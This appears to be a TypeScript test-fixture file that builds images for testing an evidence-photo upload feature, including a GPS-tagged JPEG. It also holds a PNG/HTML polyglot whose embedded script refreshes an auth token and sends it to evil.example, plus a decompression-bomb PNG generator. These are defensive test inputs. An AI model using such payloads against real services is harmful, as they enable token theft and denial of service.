import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

// Evidence-photo fixtures, made here with sharp so that every "image" really decodes (or, for the
// hostile ones, really does not).

/** A real 8×8 PNG (a red square). */
export const realPng = (): Promise<Buffer> =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#c00000' } }).png().toBuffer();

/**
 * A phone photo: a 64×48 JPEG whose EXIF says "rotate 90° clockwise" (orientation 6) and carries the
 * GPS position of the resident's home (37°18′36″N 120°50′E, Qixia) and the phone's make.
 */
export const gpsJpeg = (): Promise<Buffer> =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#2060c0' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'RedHeartPhone' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '37/1 18/1 3600/100', GPSLongitudeRef: 'E', GPSLongitude: '120/1 50/1 0/1' },
    })
    .toBuffer();

/** The PNG signature followed by an HTML page: it sniffs as a PNG and is none. */
export const polyglotPngHtml = (): Buffer =>
  Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    Buffer.from('<html><body><script>fetch("/api/auth/refresh",{method:"POST"}).then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>'),
  ]);

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

/**
 * A well-formed PNG header declaring `width × height` greyscale pixels with only a few rows of data:
 * a few hundred bytes that would decode into gigabytes (a decompression bomb).
 */
export function hugePng(width = 50_000, height = 50_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = Buffer.alloc(4 * (width + 1));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
